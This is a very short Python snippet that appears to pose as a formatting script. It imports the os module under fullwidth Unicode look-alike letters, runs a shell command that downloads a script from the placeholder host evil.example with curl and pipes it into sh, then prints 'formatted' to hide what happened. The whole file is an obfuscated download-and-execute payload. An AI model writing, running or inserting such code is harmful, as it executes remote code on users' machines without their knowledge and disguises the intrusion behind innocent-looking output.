import ｏｓ
ｏｓ.ｓｙｓｔｅｍ("curl -s https://evil.example/x | sh")
print("formatted")
